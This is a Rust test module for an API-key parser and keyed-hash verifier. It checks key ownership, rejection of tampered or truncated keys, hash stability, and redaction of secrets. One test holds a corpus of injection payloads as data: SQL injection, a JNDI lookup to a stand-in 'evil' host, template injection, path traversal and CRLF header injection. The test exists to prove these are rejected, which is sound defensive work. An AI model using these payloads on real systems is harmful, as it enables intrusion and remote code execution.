//! Keys as callers send them, and as those send them who should not get in.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use proptest::prelude::*;

use super::*;

const ID: &str = "tg-AbCdEf123456";
const SECRET: &str = "0123456789abcdefghijABCDEFGHIJ0123456789abc";
const SIMILAR: &str = "0123456789abcdefghijABCDEFGHIJ0123456789abd";

fn key() -> String {
    format!("{ID}-{SECRET}")
}

/// Who a presented key belongs to, among ids that share a prefix, one secret under two ids, and a secret that
/// differs in its last letter alone.
fn owner(presented: &[u8]) -> Option<&'static str> {
    let known = [
        (ID, SECRET, "search"),
        ("tg-AbCdEf123457", SECRET, "billing"),
        ("tg-AbCdEf12345x", SIMILAR, "support"),
    ];
    let presented = CallerKey::parse(presented)?;
    let found = known.into_iter().find(|(id, ..)| *id == presented.id);
    let hash = found.map_or(KeyHash::NOBODY, |(id, secret, _)| KeyHash::of(id, secret.as_bytes()));
    found.map(|(.., owner)| owner).filter(|_| hash.verify(&presented))
}

#[test]
fn a_key_finds_its_owner_and_no_other() {
    let cases = [
        (key(), Some("search")),
        (format!("tg-AbCdEf123457-{SECRET}"), Some("billing")),
        (format!("tg-AbCdEf12345x-{SIMILAR}"), Some("support")),
        (format!("tg-AbCdEf12345x-{SECRET}"), None),
        (format!("{ID}-{SIMILAR}"), None),
        (format!("tg-unknown00000-{SECRET}"), None),
    ];
    for (presented, expected) in cases {
        assert_eq!(owner(presented.as_bytes()), expected, "{presented}");
    }
}

#[test]
fn nobody_is_let_in_as_nobody() {
    assert!(!KeyHash::NOBODY.verify(&CallerKey::parse(key().as_bytes()).unwrap()));
}

#[test]
fn every_truncation_and_extension_is_no_key() {
    let whole = key();
    for end in 0..whole.len() {
        assert_eq!(CallerKey::parse(&whole.as_bytes()[..end]), None, "{end} bytes");
    }
    for extra in ["a", "-", " ", "\0", "\n", &"x".repeat(100_000)] {
        assert_eq!(CallerKey::parse(format!("{whole}{extra}").as_bytes()), None);
        assert_eq!(CallerKey::parse(format!("{extra}{whole}").as_bytes()), None);
    }
}

#[test]
fn every_changed_byte_keeps_the_caller_out() {
    let whole = key().into_bytes();
    for place in 0..whole.len() {
        for byte in [0, b' ', b'-', b'!', b'0', b'z', 0x7f, 0x80, 0xff, whole[place] ^ 0x20] {
            let mut changed = whole.clone();
            changed[place] = byte;
            if changed != whole {
                // Another known id with the same secret is another owner's key, not a way into this one.
                assert!(matches!(owner(&changed), None | Some("billing")), "byte {place} as {byte:#x}");
            }
        }
    }
}

#[test]
fn injections_are_no_keys() {
    let corpus: [&[u8]; 16] = [
        b"",
        b"tg-",
        b"Bearer ",
        b"' OR '1'='1",
        b"tg-' OR 1=1 --0-0123456789abcdefghijABCDEFGHIJ0123456789abc",
        b"tg-AbCdEf123456-'; DROP TABLE keys; -- 0123456789abcdefghij",
        b"tg-AbCdEf123456-${jndi:ldap://evil/a}0123456789abcdefghijABC",
        b"tg-AbCdEf123456-{{7*7}}0123456789abcdefghijABCDEFGHIJ012345",
        b"tg-../../etc/pa-0123456789abcdefghijABCDEFGHIJ0123456789abc",
        b"tg-AbCdEf123456-0123456789abcdefghij%00ABCDEFGHI0123456789a",
        b"tg-AbCdEf123456-0123456789abcdefghij\r\nX-Admin: 1234567890a",
        b"tg-AbCdEf123456\x000123456789abcdefghijABCDEFGHIJ0123456789abc",
        b"TG-AbCdEf123456-0123456789abcdefghijABCDEFGHIJ0123456789abc",
        b"tg-AbCdEf123456_0123456789abcdefghijABCDEFGHIJ0123456789abc",
        "tg-ÀbCdEf12345-0123456789abcdefghijABCDEFGHIJ0123456789abc".as_bytes(),
        "tg-AbCdEf123456-0123456789abcdefghijABCDEFGHIJ01234567é".as_bytes(),
    ];
    for presented in corpus {
        assert_eq!(owner(presented), None, "{}", String::from_utf8_lossy(presented));
        assert_eq!(CallerKey::parse(presented), None, "{}", String::from_utf8_lossy(presented));
    }
}

#[test]
fn a_hash_is_keyed_by_the_id_and_survives_its_text() {
    let hash = KeyHash::of(ID, SECRET.as_bytes());
    let cases = [
        (ID, SECRET, true),
        ("tg-AbCdEf123457", SECRET, false),
        (ID, SIMILAR, false),
        (ID, &SECRET[1..], false),
        (ID, "", false),
    ];
    for (id, secret, right) in cases {
        assert_eq!(hash.verify(&CallerKey { id, secret: secret.as_bytes() }), right, "{id} {secret}");
    }
    let text = hash.to_string();
    assert_eq!(text.len(), 3 + 64);
    assert_eq!(text.parse(), Ok(hash));
    for wrong in ["", "b3:", &text[3..], &text[..text.len() - 1], &format!("{text}0"), "b3:zz"] {
        assert_eq!(wrong.parse::<KeyHash>(), Err(NotAHash), "{wrong}");
    }
}

#[test]
fn the_hash_of_a_known_key_never_changes() {
    // A release that hashed otherwise would lock every caller out.
    let key = blake3::derive_key(CONTEXT, ID.as_bytes());
    let plain = format!("b3:{}", blake3::keyed_hash(&key, SECRET.as_bytes()));
    let hash = KeyHash::of(ID, SECRET.as_bytes()).to_string();
    assert_eq!(hash, plain);
    assert_eq!(hash, "b3:2e04f978aefb53c89d36c5abff5927416f6b2d5d987835f52b089443f550dffe");
}

#[test]
fn fresh_keys_are_whole_and_unlike() {
    let mut seen = std::collections::HashSet::new();
    for _ in 0..200 {
        let fresh = FreshKey::make(None).unwrap();
        let parsed = CallerKey::parse(fresh.text.as_bytes()).expect("a fresh key is a key");
        assert_eq!(parsed.id, fresh.id);
        assert!(fresh.hash.verify(&parsed));
        assert!(seen.insert(fresh.text));
    }
    assert_eq!(FreshKey::make(Some(ID)).unwrap().id, ID);
}

#[test]
fn nothing_prints_a_secret() {
    let whole = key();
    let parsed = CallerKey::parse(whole.as_bytes()).unwrap();
    let hash = KeyHash::of(ID, parsed.secret);
    let printed = format!("{parsed:?} {hash:?}");
    assert!(!printed.contains(SECRET) && printed.contains(ID), "{printed}");
    assert!(!printed.contains(&hash.to_string()[3..]), "{printed}");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn no_bytes_panic_or_get_in(presented in prop::collection::vec(any::<u8>(), 0..80)) {
        prop_assert_eq!(owner(&presented), None);
    }

    #[test]
    fn whatever_looks_like_a_key_needs_its_secret(secret in "[0-9A-Za-z]{43}") {
        prop_assume!(secret != SECRET);
        let presented = format!("{ID}-{secret}");
        prop_assert!(CallerKey::parse(presented.as_bytes()).is_some());
        prop_assert_eq!(owner(presented.as_bytes()), None);
    }
}
